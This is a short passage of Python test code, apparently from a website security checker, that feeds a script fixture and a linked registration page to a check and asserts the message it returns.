    inside = read(f"<script>{send}</script>", f"{URL}b.js", ZONE)
    exchange = Exchange(url=f"{URL}b.js", status=200, headers=())
    seen = Visits(visits=(), scripts=(OwnScript(exchange=exchange, matter=inside, page=of),))
    beside = linked(("daftar", page(LOGIN, "/daftar")))
    assert CHECK.judge(material(site()), beside, seen).message == message  # type: ignore[union-attr]
